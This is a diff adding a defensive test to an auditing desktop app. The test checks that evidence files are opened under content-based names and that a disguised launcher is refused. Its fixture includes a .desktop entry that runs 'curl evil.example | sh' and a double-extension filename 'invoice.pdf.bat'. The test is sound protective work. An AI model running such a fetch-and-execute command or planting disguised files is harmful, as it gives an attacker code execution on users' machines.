@@ -346,3 +346,34 @@ def test_a_photos_tooltip_says_who_added_it(window: MainWindow) -> None:
     record = ev.records[str(index.data(IdRole))]
     tip = str(index.data(Qt.ItemDataRole.ToolTipRole))
     assert record.meta.created_by and tip.splitlines()[-1].startswith(f"Added by {record.meta.created_by}, 20")
+
+
+def test_the_system_viewer_gets_a_copy_named_by_its_content_and_never_a_script(
+        window: MainWindow, monkeypatch: pytest.MonkeyPatch, messages: list[str]) -> None:
+    """Files an import or merge of an older version let in: named invoice.pdf.bat, or not evidence at all."""
+    from auditor_app.services import evidence as evidence_service
+    from auditor_app.services.session import new_id
+
+    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+    desktop = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
+
+    def plant(tx, data: bytes, name: str, mime: str) -> str:  # type: ignore[no-untyped-def]
+        digest = evidence_service.store_blob(tx, data, mime)
+        return tx.create("evidence", new_id(), {"sha256": digest, "filename": name, "mime": mime, "size": len(data),
+                                                "clause_id": cid("8.4.1"), "rotation": 0})
+
+    invoice = window.session.run(plant, pdf, "invoice.pdf.bat", "application/pdf").ids("evidence")
+    window.apply_change(window.session.last_change)
+    launcher = window.session.run(plant, desktop, "photo.desktop", "application/pdf").ids("evidence")
+    window.apply_change(window.session.last_change)
+    opened: list[QUrl] = []
+    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url) or True)
+    ev = feature(window)
+    ev.open_externally(next(iter(invoice)))
+    assert len(opened) == 1
+    copy = Path(opened[0].toLocalFile())
+    assert copy.name == "invoice_pdf.pdf" and copy.read_bytes() == pdf
+    ev.open_externally(next(iter(launcher)))
+    assert len(opened) == 1 and not list(copy.parent.parent.glob("*/photo*"))
+    assert messages == ["Cannot open the file: photo.desktop: not opened, its content is not a supported evidence "
+                        "file (JPEG, PNG, WebP, HEIC, PDF or office document)"]
